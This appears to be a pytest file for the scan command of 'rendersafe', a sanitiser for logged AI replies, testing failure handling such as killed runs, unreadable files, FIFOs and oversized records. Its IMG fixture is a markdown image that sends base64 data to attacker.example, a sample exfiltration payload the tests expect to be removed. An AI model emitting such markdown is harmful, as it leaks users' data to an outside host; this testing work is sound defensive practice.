"""`rendersafe scan` on an operator's worst day, with real parts: real processes (killed
with SIGKILL part way), real permissions, FIFOs, devices, links, a 64 MB line.

Run as root, permission bits bind nobody; the tests that need them run the scan with
the capabilities that override them dropped (`setpriv`), and are skipped where that
is impossible. The other tests use setups that fail for root too (a path under a
regular file, a FIFO, a link loop).
"""

from __future__ import annotations

import json
import os
import shutil
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest

import rendersafe
from rendersafe import sanitize
from rendersafe.scan import ScanOptions, ScanReport, scan

SRC = Path(rendersafe.__file__).resolve().parent.parent
IMG = "![x](https://attacker.example/p.png?d=SGVsbG8gd29ybGQgdGhpcyBpcyBzZWNyZXQ=)"
BOM = b"\xef\xbb\xbf"
# Without CAP_DAC_OVERRIDE and CAP_DAC_READ_SEARCH, root obeys permission bits.
DROP = ["setpriv", "--bounding-set", "-dac_override,-dac_read_search", "--"]


def _can_drop() -> bool:
    if shutil.which("setpriv") is None:
        return False
    probe = subprocess.run([*DROP, "true"], check=False, capture_output=True)
    return probe.returncode == 0


UNPRIVILEGED = [] if os.geteuid() != 0 else DROP
needs_permissions = pytest.mark.skipif(
    os.geteuid() == 0 and not _can_drop(), reason="root, and its capabilities cannot be dropped"
)


def command(*args: str, unprivileged: bool = False) -> list[str]:
    prefix = UNPRIVILEGED if unprivileged else []
    return [*prefix, sys.executable, "-m", "rendersafe", "scan", *args]


def env() -> dict[str, str]:
    return {**os.environ, "PYTHONPATH": str(SRC)}


def cli(*args: str, unprivileged: bool = False) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        command(*args, unprivileged=unprivileged),
        env=env(),
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )


def write_lines(path: Path, *records: object) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text("".join(json.dumps(r) + "\n" for r in records))
    return path


def report_of(path: Path) -> ScanReport:
    return ScanReport.model_validate_json(path.read_text())


# 4. Every input that cannot be read is an error with its path.


@needs_permissions
def test_unreadable_directory_and_file_are_errors_by_path(tmp_path: Path) -> None:
    logs = tmp_path / "logs"
    write_lines(logs / "ok.jsonl", {"reply": IMG})
    locked = write_lines(logs / "locked" / "attack.jsonl", {"reply": IMG}).parent
    secret = write_lines(logs / "secret.jsonl", {"reply": IMG})
    locked.chmod(0o000)
    secret.chmod(0o000)
    tmp_path.chmod(0o755)
    try:
        done = cli(str(logs), "--json", str(tmp_path / "r.json"), unprivileged=True)
        alone = cli(str(logs / "locked"), str(secret), unprivileged=True)
    finally:
        locked.chmod(0o755)
    assert done.returncode == 1, done.stderr
    assert "Traceback" not in done.stderr
    assert f"{locked}: cannot read this directory (Permission denied)" in done.stderr
    assert f"{secret}: cannot be read (Permission denied)" in done.stderr
    report = report_of(tmp_path / "r.json")
    assert {e.path for e in report.errors} == {str(locked), str(secret)}
    assert report.summary.files_unreadable == 2
    assert [Path(row.path).name for row in report.findings] == ["ok.jsonl"]  # the rest ran
    assert alone.returncode == 2  # nothing could be read at all
    assert "nothing found" not in alone.stdout


def test_a_link_loop_in_a_directory_is_an_error(tmp_path: Path) -> None:
    write_lines(tmp_path / "ok.jsonl", {"reply": "fine"})
    (tmp_path / "loop.jsonl").symlink_to(tmp_path / "loop.jsonl")
    report = scan([str(tmp_path)], ScanOptions())
    (error,) = report.errors
    assert error.path == str(tmp_path / "loop.jsonl")
    assert "symbolic links" in error.message


# 5. A killed scan completes what it finished and corrupts nothing; the next run cleans up.


def _group_alive(pgid: int) -> list[int]:
    """Processes of the group that are still running (not zombies)."""
    alive = []
    for stat in Path("/proc").glob("[0-9]*/stat"):
        try:
            fields = stat.read_text().rsplit(")", 1)[1].split()
        except OSError:
            continue
        if int(fields[2]) == pgid and fields[0] != "Z":
            alive.append(int(stat.parent.name))
    return alive


def _dead_pid() -> int:
    child = subprocess.Popen(["true"])
    child.wait()
    return child.pid


@pytest.mark.skipif(not Path("/proc/self/stat").exists(), reason="needs /proc")
def test_sigkill_part_way_leaves_every_file_original_or_fully_fixed(tmp_path: Path) -> None:
    records = [
        {"id": f"r{i}", "reply": f"Reply {i}. " + "Plain words. " * 30 + IMG} for i in range(60)
    ]
    logs = tmp_path / "logs"
    original = write_lines(logs / "f000.jsonl", *records).read_bytes()
    names = [f"f{i:03}.jsonl" for i in range(160)]
    for name in names[1:]:
        (logs / name).write_bytes(original)
    scan([str(logs / "f000.jsonl")], ScanOptions(fix_dir=tmp_path / "expected"))
    fixed = (tmp_path / "expected" / "f000.jsonl").read_bytes()
    assert fixed != original

    scanning = subprocess.Popen(
        command(str(logs), "--in-place", "--quiet", "--jobs", "2"),
        env=env(),
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
        start_new_session=True,
    )
    deadline = time.monotonic() + 120
    done = 0
    while done < 8 and scanning.poll() is None and time.monotonic() < deadline:
        time.sleep(0.02)
        done = sum((logs / name).read_bytes() == fixed for name in names)
    scanning.send_signal(signal.SIGKILL)  # the scan's own process; its workers follow it
    scanning.wait()
    stop = time.monotonic() + 10
    while _group_alive(scanning.pid) and time.monotonic() < stop:
        time.sleep(0.05)
    assert _group_alive(scanning.pid) == []  # no worker outlives the scan

    contents = [(logs / name).read_bytes() for name in names]
    assert all(c in (original, fixed) for c in contents)  # never half a file
    completed = sum(c == fixed for c in contents)
    assert 8 <= completed < len(names)  # killed part way, after files were done
    # A temporary file of a scan that is no more, and one of a live process: only the
    # dead one's is removed, and neither is read as an input.
    stale = logs / f".f001.jsonl.rendersafe-{_dead_pid()}-0.tmp"
    stale.write_bytes(original[:100])
    live = logs / f".f002.jsonl.rendersafe-{os.getpid()}-0.tmp"
    live.write_bytes(original[:100])

    again = cli(str(logs), "--in-place", "--include", "*", "--json", str(tmp_path / "r.json"))
    assert again.returncode == 0, again.stderr  # every finding fixed, as ruff --fix
    report = report_of(tmp_path / "r.json")
    assert report.errors == []
    assert report.summary.files == len(names)  # temporary files are never inputs
    assert all((logs / name).read_bytes() == fixed for name in names)
    leftovers = sorted(p.name for p in logs.iterdir() if p.name.endswith(".tmp"))
    assert leftovers == [live.name]


def test_each_file_is_in_place_before_the_batch_ends(tmp_path: Path) -> None:
    for name in ("a", "b", "c"):
        write_lines(tmp_path / "in" / f"{name}.jsonl", {"reply": IMG})
    seen: list[list[str]] = []

    def progress(_result: object) -> None:
        seen.append(sorted(p.name for p in (tmp_path / "out").glob("*.jsonl")))

    scan([str(tmp_path / "in")], ScanOptions(fix_dir=tmp_path / "out"), progress=progress)
    assert seen == [["a.jsonl"], ["a.jsonl", "b.jsonl"], ["a.jsonl", "b.jsonl", "c.jsonl"]]


# 6. Outputs are checked before the scan, and every error names its path.


def test_outputs_that_cannot_be_written_fail_first_by_name(tmp_path: Path) -> None:
    logs = tmp_path / "logs"
    attack = write_lines(logs / "a.jsonl", {"reply": IMG})
    before = attack.read_bytes()
    blocker = tmp_path / "file"
    blocker.write_text("a regular file, not a directory")
    for option, path in (
        ("--json", blocker / "report.json"),
        ("--sarif", blocker / "report.sarif"),
        ("--audit", blocker / "audit.jsonl"),
        ("--json", logs),
    ):
        done = cli(str(logs), "--in-place", option, str(path))
        assert done.returncode == 2, (option, done.stderr)
        assert f"rendersafe: error: cannot write {path}:" in done.stderr
        assert "Traceback" not in done.stderr
        assert attack.read_bytes() == before  # refused before the scan rewrote anything
    done = cli(str(logs), "--fix", str(blocker))
    assert done.returncode == 2
    assert f"cannot write fixed copies into {blocker}: not a directory" in done.stderr
    done = cli(str(logs), "--fix", str(blocker / "sub"))
    assert done.returncode == 2
    assert f"cannot write fixed copies into {blocker / 'sub'}: Not a directory" in done.stderr


@needs_permissions
def test_read_only_directories_are_named_not_a_bare_permission_error(tmp_path: Path) -> None:
    logs = tmp_path / "logs"
    attack = write_lines(logs / "ro" / "a.jsonl", {"reply": IMG})
    write_lines(logs / "rw" / "b.jsonl", {"reply": IMG})
    before = attack.read_bytes()
    readonly = tmp_path / "readonly"
    readonly.mkdir()
    for folder in (tmp_path, logs, logs / "rw"):
        folder.chmod(0o777)
    (logs / "ro").chmod(0o555)
    readonly.chmod(0o555)
    try:
        fix = cli(str(logs), "--fix", str(readonly / "out"), unprivileged=True)
        report = cli(str(logs), "--json", str(readonly / "r.json"), unprivileged=True)
        in_place = cli(str(logs), "--in-place", unprivileged=True)
    finally:
        (logs / "ro").chmod(0o755)
        readonly.chmod(0o755)
    assert fix.returncode == 2
    assert f"cannot write fixed copies into {readonly / 'out'}: Permission denied" in fix.stderr
    assert report.returncode == 2
    assert f"cannot write {readonly / 'r.json'}: Permission denied" in report.stderr
    assert in_place.returncode == 1
    assert "Traceback" not in in_place.stderr + fix.stderr + report.stderr
    assert f"{attack}: cannot be fixed: {logs / 'ro'} is not writable" in in_place.stderr
    assert attack.read_bytes() == before
    assert "attacker" not in (logs / "rw" / "b.jsonl").read_text()  # the rest was fixed


# 7. A record's memory is bounded: a longer line is an error, not a load.


def _peak(*args: str) -> tuple[float, int, str]:
    """Run a scan; its peak resident memory in MB, its exit code and its stderr."""
    child = subprocess.Popen(
        command(*args), env=env(), stdout=subprocess.DEVNULL, stderr=subprocess.PIPE
    )
    assert child.stderr is not None
    with child.stderr:
        err = child.stderr.read().decode()
    _, status, usage = os.wait4(child.pid, 0)
    child.returncode = os.waitstatus_to_exitcode(status)
    return usage.ru_maxrss / 1024, child.returncode, err


def test_a_64_mb_line_is_reported_not_loaded(tmp_path: Path) -> None:
    small = write_lines(tmp_path / "small.jsonl", {"reply": IMG})
    big = tmp_path / "big.jsonl"
    with big.open("w") as out:
        out.write('{"reply": "' + "a" * (64 << 20) + '"}\n')
        out.write(json.dumps({"reply": IMG}) + "\n")
    baseline, _, _ = _peak(str(small), "--jobs", "1")
    peak, code, err = _peak(str(big), "--jobs", "1", "--json", str(tmp_path / "r.json"))
    assert code == 1
    report = report_of(tmp_path / "r.json")
    (error,) = report.errors
    assert (error.path, error.line) == (str(big), 1)
    assert "over max_record_bytes=16777216: not read" in error.message
    assert [row.line for row in report.findings] == [2]  # the rest of the file was scanned
    assert err.count("max_record_bytes") == 1
    # Loaded whole, the line alone is 64 MB (and its str and JSON copies three times that).
    assert peak < baseline + 40, (baseline, peak)


def test_max_record_bytes_bounds_lines_records_and_whole_files(tmp_path: Path) -> None:
    path = tmp_path / "in" / "r.jsonl"
    write_lines(path, {"reply": IMG}, {"reply": "x" * 5000}, {"reply": IMG})
    # A JSON list is read a record at a time: only its over-long record is not read.
    listed = tmp_path / "in" / "list.json"
    listed.write_text(json.dumps([{"reply": IMG}, {"reply": "y" * 5000}, {"reply": IMG}], indent=1))
    whole = tmp_path / "in" / "doc.json"
    whole.write_text(json.dumps({"messages": [{"role": "assistant", "content": IMG}] * 100}))
    options = ScanOptions(max_record_bytes=1000, fix_dir=tmp_path / "out")
    report = scan([str(tmp_path / "in")], options, jobs=1)
    errors = {(Path(e.path).name, e.line): e.message for e in report.errors}
    assert set(errors) == {("doc.json", None), ("r.jsonl", 2), ("list.json", 5)}
    size = len(path.read_bytes().splitlines(keepends=True)[1])
    assert errors[("r.jsonl", 2)].startswith(f"a line of {size} bytes, over max_record_bytes=1000")
    assert errors[("doc.json", None)].startswith("a file of")
    assert errors[("list.json", 5)].startswith("record 1: 5018 bytes, over max_record_bytes=1000")
    assert sorted((Path(r.path).name, r.line) for r in report.findings) == [
        ("list.json", 2),
        ("list.json", 8),
        ("r.jsonl", 1),
        ("r.jsonl", 3),
    ]
    # Fail closed: a record not read is not copied; a placeholder takes its place.
    withheld = b'{"rendersafe_withheld": "too_long"}'
    fixed = (tmp_path / "out" / "r.jsonl").read_bytes().splitlines(keepends=True)
    assert fixed[1] == withheld + b"\n"
    assert (tmp_path / "out" / "doc.json").read_bytes() == withheld
    # Byte for byte the original, but for the two replies' strings and the long record.
    clean = json.dumps(sanitize(IMG)).encode()
    expected = listed.read_bytes().replace(json.dumps(IMG).encode(), clean)
    start = expected.index(b"{", expected.index(b"}") + 1)
    end = expected.index(b"}", start) + 1
    expected = expected[:start] + withheld + expected[end:]
    assert (tmp_path / "out" / "list.json").read_bytes() == expected
    assert json.loads(expected)[1] == {"rendersafe_withheld": "too_long"}
    # `keep_unsanitisable`: as before, copied unchanged.
    kept = ScanOptions(max_record_bytes=1000, fix_dir=tmp_path / "kept", keep_unsanitisable=True)
    scan([str(tmp_path / "in")], kept, jobs=1)
    copied = (tmp_path / "kept" / "r.jsonl").read_bytes().splitlines(keepends=True)
    assert copied[1] == path.read_bytes().splitlines(keepends=True)[1]
    assert (tmp_path / "kept" / "doc.json").read_bytes() == whole.read_bytes()
    code = cli(str(path), "--max-record-bytes", "0").returncode
    assert code == 2


def test_a_reply_too_large_to_sanitise_is_not_copied_into_the_fix(tmp_path: Path) -> None:
    """Issue 35: a record the sanitiser refuses (over `max_input_chars`) once went into the
    fixed copy unchanged, its attack URL in it. Now a placeholder does, and the report
    says so; `keep_unsanitisable` makes the old behaviour a choice."""
    path = write_lines(tmp_path / "in" / "r.jsonl", {"reply": IMG}, {"reply": "a " * 600 + IMG})
    policy = rendersafe.Policy(max_input_chars=1000)
    report = scan([str(path)], ScanOptions(policy=policy, fix_dir=tmp_path / "out"), jobs=1)
    (error,) = report.errors
    assert error.line == 2
    assert error.message.startswith("could not be sanitised")
    assert error.message.endswith("withheld from the fixed copy (a placeholder is in its place)")
    fixed = (tmp_path / "out" / "r.jsonl").read_text()
    assert "attacker.example" not in fixed
    assert json.loads(fixed.splitlines()[1]) == {"rendersafe_withheld": "not_sanitisable"}
    kept = ScanOptions(policy=policy, fix_dir=tmp_path / "kept", keep_unsanitisable=True)
    scan([str(path)], kept, jobs=1)
    assert (tmp_path / "kept" / "r.jsonl").read_text().splitlines()[1] == (
        path.read_text().splitlines()[1]
    )


# 8. FIFOs, devices, dangling links; byte order marks; never a write outside the tree.


def test_fifos_devices_and_dangling_links_are_reported_and_never_block(tmp_path: Path) -> None:
    logs = tmp_path / "logs"
    write_lines(logs / "ok.jsonl", {"reply": IMG})
    os.mkfifo(logs / "pipe.jsonl")
    os.mkfifo(logs / "pipe")  # reported whatever its name: it is no file to match
    (logs / "zero.jsonl").symlink_to("/dev/zero")  # read, it would never end
    (logs / "gone.jsonl").symlink_to(logs / "nowhere.jsonl")
    (logs / "elsewhere").symlink_to(tmp_path)
    os.mkfifo(tmp_path / "named")
    done = cli(str(logs), str(tmp_path / "named"), "--json", str(tmp_path / "r.json"))
    assert done.returncode == 1
    report = report_of(tmp_path / "r.json")
    errors = {Path(e.path).name: e.message for e in report.errors}
    assert errors == {
        "pipe.jsonl": "a FIFO (named pipe), not a regular file: not read",
        "pipe": "a FIFO (named pipe), not a regular file: not read",
        "named": "a FIFO (named pipe), not a regular file: not read"
        " (a pipe: scan - and feed it on standard input)",
        "zero.jsonl": "a character device, not a regular file: not read",
        "gone.jsonl": f"a symbolic link to nothing ({logs / 'nowhere.jsonl'}): not read",
        "elsewhere": "a symbolic link to a directory: not followed (name it to scan it)",
    }
    assert report.summary.findings == 1
    excluded = cli(str(logs), "--exclude", "pipe*", "--exclude", "gone*", "--quiet")
    assert "pipe" not in excluded.stderr  # excluded on purpose: not reported
    assert "gone" not in excluded.stderr


def test_byte_order_marks(tmp_path: Path) -> None:
    (tmp_path / "only.json").write_bytes(BOM)
    (tmp_path / "only.jsonl").write_bytes(BOM + b"\n")
    (tmp_path / "empty.json").write_bytes(b"")
    (tmp_path / "only.md").write_bytes(BOM)
    (tmp_path / "doc.json").write_bytes(BOM + json.dumps({"reply": IMG}).encode())
    (tmp_path / "lines.jsonl").write_bytes(BOM + (json.dumps({"reply": IMG}) + "\n").encode() * 2)
    report = scan([str(tmp_path)], ScanOptions(fix_dir=tmp_path.parent / "bom-fixed"))
    assert report.errors == []
    assert report.summary.files == 6
    assert report.summary.records == 4  # a text file is one reply: one record
    assert report.summary.findings == 3
    fixed = tmp_path.parent / "bom-fixed"
    for name in ("doc.json", "lines.jsonl"):
        data = (fixed / name).read_bytes()
        assert data.startswith(BOM)  # the mark is kept, and is not part of the record
        assert b"attacker" not in data
    assert (fixed / "only.json").read_bytes() == BOM


def test_fix_dir_never_written_through_a_link_out_of_it(tmp_path: Path) -> None:
    write_lines(tmp_path / "logs" / "sub" / "a.jsonl", {"reply": IMG})
    outside = tmp_path / "outside"
    outside.mkdir()
    (tmp_path / "fixed").mkdir()
    (tmp_path / "fixed" / "sub").symlink_to(outside)
    report = scan([str(tmp_path / "logs")], ScanOptions(fix_dir=tmp_path / "fixed"))
    (error,) = report.errors
    assert f"{tmp_path / 'fixed' / 'sub'} is a symbolic link out of" in error.message
    assert list(outside.iterdir()) == []
    assert report.summary.findings == 1


def test_any_scan_removes_a_dead_scans_temporary_files_and_reads_none(tmp_path: Path) -> None:
    write_lines(tmp_path / "a.jsonl", {"reply": IMG})
    dead = write_lines(tmp_path / f".a.jsonl.rendersafe-{_dead_pid()}-3.tmp", {"reply": IMG})
    live = write_lines(tmp_path / f".a.jsonl.rendersafe-{os.getpid()}-0.tmp", {"reply": IMG})
    report = scan([str(tmp_path)], ScanOptions(), include=["*"])
    assert report.summary.files == 1
    assert report.summary.findings == 1
    assert not dead.exists()
    assert live.exists()  # a scan still running may be writing it
